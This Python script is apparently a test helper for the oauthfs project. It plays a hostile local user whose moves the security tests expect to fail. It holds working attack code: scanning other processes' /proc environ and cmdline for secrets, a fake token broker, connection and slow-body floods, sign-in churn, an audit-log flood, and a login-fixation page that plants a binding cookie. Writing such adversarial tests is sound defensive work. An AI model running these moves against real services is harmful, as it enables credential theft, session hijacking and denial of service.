#!/usr/bin/env python3
"""A hostile local user, for oauthfs's security tests.

Each subcommand is one move a review made against oauthfs; the tests run
this script under another real uid (setpriv) and check that the move
fails. Standard library only.

  scan-proc SECONDS NEEDLE    poll every process's cmdline and environ for
                              NEEDLE; print each hit as "HIT pid"
  fake-broker SOCKET TOKEN    serve a session API that hands out TOKEN and
                              a sign-in link of its choosing
  flood SOCKET N              open N connections, make one request on each,
                              keep them all open; print "OPEN k"
  never-ack SOCKET N          open N event streams that never acknowledge
  signins SOCKET N NAME       start and cancel N sign-ins to NAME; print
                              the last answer
  plant SOCKET NAME           start our own sign-in to NAME, press its
                              Continue ourselves, and serve a page on a
                              loopback port that plants its binding cookie
                              and sends the visitor to the provider; print
                              "READY url"
  slow-bodies SOCKET N        open N connections that each announce a
                              64 KiB PUT body and never send it; print
                              "READY"
  audit-flood SOCKET SECONDS  ask for the token of integrations that do
                              not exist, with 15 KB names and with short
                              unknown ones, as fast as it can, every
                              other request from a new process (as curl
                              in a loop); print "SENT n"
"""
import http.client
import http.server
import os
import socket
import socketserver
import sys
import time


class UnixHTTPConnection(http.client.HTTPConnection):
    def __init__(self, path):
        super().__init__("oauthfs", timeout=30)
        self.path = path

    def connect(self):
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.sock.settimeout(30)
        self.sock.connect(self.path)


def scan_proc(seconds, needle):
    needle = needle.encode()
    end = time.time() + float(seconds)
    seen = set()
    while time.time() < end:
        for pid in os.listdir("/proc"):
            if not pid.isdigit() or int(pid) == os.getpid():
                continue  # our own argv holds the needle
            for f in ("cmdline", "environ"):
                try:
                    with open(f"/proc/{pid}/{f}", "rb") as fh:
                        if needle in fh.read() and (pid, f) not in seen:
                            seen.add((pid, f))
                            print(f"HIT {pid} {f}", flush=True)
                except OSError:
                    pass
        time.sleep(0.01)
    print("DONE", flush=True)


def fake_broker(path, token):
    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            body = ('{"access_token":"%s","expiry":null,"obtained":null,"refresh_at":null}' % token).encode()
            if "/logins/" in self.path:
                body = b'{"status":"pending","name":"Test","guid":"x"}'
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def do_POST(self):
            body = b'{"login_id":"x","url":"http://127.0.0.1:9/attacker","name":"Test","guid":"x"}'
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def address_string(self):
            return "peer"

        def log_message(self, *a):
            pass

    class Server(socketserver.ThreadingMixIn, socketserver.UnixStreamServer):
        daemon_threads = True

    if os.path.exists(path):
        os.remove(path)
    srv = Server(path, Handler)
    os.chmod(path, 0o777)
    print("READY", flush=True)
    srv.serve_forever()


def flood(path, n):
    conns = []
    for _ in range(int(n)):
        try:
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.settimeout(5)
            s.connect(path)
            s.sendall(b"GET /v1/integrations HTTP/1.1\r\nHost: oauthfs\r\n\r\n")
            conns.append(s)
        except OSError:
            break
    open_ = 0
    for s in conns:
        try:
            if s.recv(1):
                open_ += 1
        except OSError:
            pass
    print(f"OPEN {open_}", flush=True)
    time.sleep(3600)


def never_ack(path, n):
    socks = []
    for _ in range(int(n)):
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.connect(path)
        s.sendall(b"POST /v1/events HTTP/1.1\r\nHost: oauthfs\r\nTransfer-Encoding: chunked\r\n\r\n")
        socks.append(s)
    for s in socks:
        s.recv(4096)  # the hello; never answered
    print("READY", flush=True)
    time.sleep(3600)


def signins(path, n, name):
    c = UnixHTTPConnection(path)
    last = ""
    for _ in range(int(n)):
        c.request("POST", f"/v1/integrations/{name}/login")
        r = c.getresponse()
        last = r.read().decode()
        if r.status != 200:
            break
        login = last.split('"login_id": "')[1].split('"')[0]
        c.request("DELETE", f"/v1/logins/{login}")
        r = c.getresponse()
        r.read()
    print(last, flush=True)


def plant(path, name):
    import json, re, urllib.parse
    c = UnixHTTPConnection(path)
    c.request("POST", f"/v1/integrations/{name}/login")
    link = json.loads(c.getresponse().read())["url"]
    u = urllib.parse.urlsplit(link)
    web = http.client.HTTPConnection(u.hostname, u.port, timeout=30)
    web.request("GET", u.path + "?" + u.query)
    r = web.getresponse()
    cookie = r.getheader("Set-Cookie").split(";")[0]
    page = r.read().decode()
    fields = dict(re.findall(r'<input type="hidden" name="([^"]+)" value="([^"]*)"', page))
    fields["action"] = "continue"
    body = urllib.parse.urlencode(fields)
    web.request("POST", "/start", body, {"Content-Type": "application/x-www-form-urlencoded", "Cookie": cookie})
    r = web.getresponse()
    r.read()
    authorize = r.getheader("Location")

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(302)
            self.send_header("Set-Cookie", cookie + "; Path=/; SameSite=Lax")
            self.send_header("Location", authorize)
            self.end_headers()

        def log_message(self, *a):
            pass

    srv = http.server.HTTPServer(("127.0.0.1", 0), Handler)
    print(f"READY http://127.0.0.1:{srv.server_address[1]}/", flush=True)
    srv.serve_forever()


def slow_bodies(path, n):
    socks = []
    for _ in range(int(n)):
        try:
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.connect(path)
            s.sendall(b"PUT /v1/integrations/Test/credentials HTTP/1.1\r\nHost: oauthfs\r\nContent-Length: 65536\r\n\r\n{")
            socks.append(s)
        except OSError:
            break
    print("READY", flush=True)
    while True:  # keep them coming back as the server closes them
        time.sleep(1)
        for i, s in enumerate(socks):
            try:
                s.send(b" ")
            except OSError:
                try:
                    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                    s.connect(path)
                    s.sendall(b"PUT /v1/integrations/Test/credentials HTTP/1.1\r\nHost: oauthfs\r\nContent-Length: 65536\r\n\r\n{")
                    socks[i] = s
                except OSError:
                    pass


def audit_flood(path, seconds):
    def ask(name):
        c = UnixHTTPConnection(path)
        try:
            c.request("GET", "/v1/integrations/" + name + "/token")
            c.getresponse().read()
        finally:
            c.close()

    end, sent = time.monotonic() + float(seconds), 0
    while time.monotonic() < end:
        name = ("x" * 15000 if sent % 4 < 2 else "nope") + str(sent)
        try:
            if sent % 2:
                pid = os.fork()
                if pid == 0:
                    try:
                        ask(name)
                    finally:
                        os._exit(0)
                os.waitpid(pid, 0)
            else:
                ask(name)
            sent += 1
        except OSError:
            pass
    print("SENT", sent, flush=True)


if __name__ == "__main__":
    cmd, args = sys.argv[1], sys.argv[2:]
    {"scan-proc": scan_proc, "fake-broker": fake_broker, "flood": flood,
     "never-ack": never_ack, "signins": signins, "plant": plant,
     "slow-bodies": slow_bodies, "audit-flood": audit_flood}[cmd](*args)
